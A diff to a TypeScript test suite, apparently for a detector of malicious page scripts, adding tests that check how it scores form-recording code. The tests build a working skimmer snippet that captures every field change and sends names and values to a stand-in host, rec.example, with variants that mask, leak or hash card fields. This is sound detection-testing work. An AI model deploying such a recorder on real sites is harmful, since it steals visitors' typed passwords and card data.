@@ -144,4 +144,26 @@ describe('applyTrace', function () {
       'visitor-sent-away',
     ]);
   });
+
+  const recorder = (value: string): string =>
+    `var q=[];document.addEventListener('change',function(e){var t=e.target;q.push({n:t.name,v:${value}});navigator.sendBeacon('https://rec.example/v1',JSON.stringify(q))},true);`;
+  const harvest = async (text: string): Promise<string[]> =>
+    (await run(text)).scripts[0]!.evidence.filter(({ rule }) => /harvest|typed/.test(rule)).map(
+      ({ severity, rule }) => `${severity} ${rule}`,
+    );
+
+  it('thinks less of a record of all inputs that leaves out what card fields hold', async () => {
+    const masked = `/pass|card|cc|cvv|cvc/.test(t.name+t.autocomplete)?t.value.replace(/./g,'*'):t.value`;
+    assert.deepEqual(await harvest(recorder(masked)), ['low form-harvest-to-host', 'low typed-data-sent']);
+  });
+
+  it('thinks no less of one that leaves them in, in whatever form', async () => {
+    assert.ok((await harvest(recorder('t.value'))).includes('critical typed-data-sent'));
+    const veiled = `/card|cc|cvv|cvc/.test(t.name+t.autocomplete)?[].reduce.call(t.value,function(a,c){return (a*31+c.charCodeAt(0)*7919)%1000000007},7):t.value`;
+    const found = await harvest(recorder(veiled));
+    assert.ok(
+      found.includes('critical typed-data-sent') && found.includes('medium form-harvest-to-host'),
+      found.join(),
+    );
+  });
 });
